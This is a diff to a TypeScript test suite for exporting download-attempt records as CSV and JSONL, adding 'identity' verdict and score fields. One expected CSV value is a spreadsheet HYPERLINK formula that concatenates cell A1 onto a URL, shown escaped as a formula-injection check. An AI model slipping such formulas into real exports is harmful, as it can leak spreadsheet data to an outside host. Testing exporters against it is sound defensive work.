@@ -22,7 +22,7 @@ const RECORDS: readonly AttemptRecord[] = [
     duration_ms: 12.5,
     cache_hit: false,
     revalidated: true,
-    extra: { why: 'Ü\n"', n: [1] },
+    extra: { why: 'Ü\n"', n: [1], identity: { verdict: 'unsure', score: 0.5 } },
   }),
   attempt({ doc_id: 'doi:10.1/b', status: 'parked', reason: 'retry-after' }),
 ];
@@ -66,7 +66,7 @@ describe('an export of attempts', () => {
     });
     const rows = await query(
       `SELECT doc_id, timestamp, resolver, http_status, size_bytes, duration_ms, cache_hit, revalidated,
-              extra->>'why' AS why, reason FROM '${path}'`,
+              extra->>'why' AS why, reason, identity, identity_score FROM '${path}'`,
     );
     expect(rows).toEqual([
       {
@@ -80,6 +80,8 @@ describe('an export of attempts', () => {
         revalidated: true,
         why: 'Ü\n"',
         reason: null,
+        identity: 'unsure',
+        identity_score: 0.5,
       },
       expect.objectContaining({
         doc_id: 'doi:10.1/b',
@@ -114,11 +116,13 @@ describe('an export of attempts', () => {
       resolver: `'=HYPERLINK("http://x/"&A1)`,
       size_bytes: '5000000000',
       cache_hit: 'false',
-      extra: '{"why":"Ü\\n\\"","n":[1]}',
+      extra: '{"why":"Ü\\n\\"","n":[1],"identity":{"verdict":"unsure","score":0.5}}',
+      identity: 'unsure',
+      identity_score: '0.5',
     });
   });
 
-  test('as JSONL is the records themselves', async () => {
+  test('as JSONL is the records themselves, with their identity', async () => {
     await using dir = await tempDir();
     const text = (await exported('jsonl', RECORDS, join(dir.path, 'a.jsonl'))).toString();
     expect(
@@ -126,7 +130,7 @@ describe('an export of attempts', () => {
         .trimEnd()
         .split('\n')
         .map((line) => JSON.parse(line) as unknown),
-    ).toEqual(RECORDS);
+    ).toEqual([{ ...RECORDS[0], identity: 'unsure', identity_score: 0.5 }, RECORDS[1]]);
   });
 
   test('that breaks off leaves the file of before, and nothing beside it', async () => {
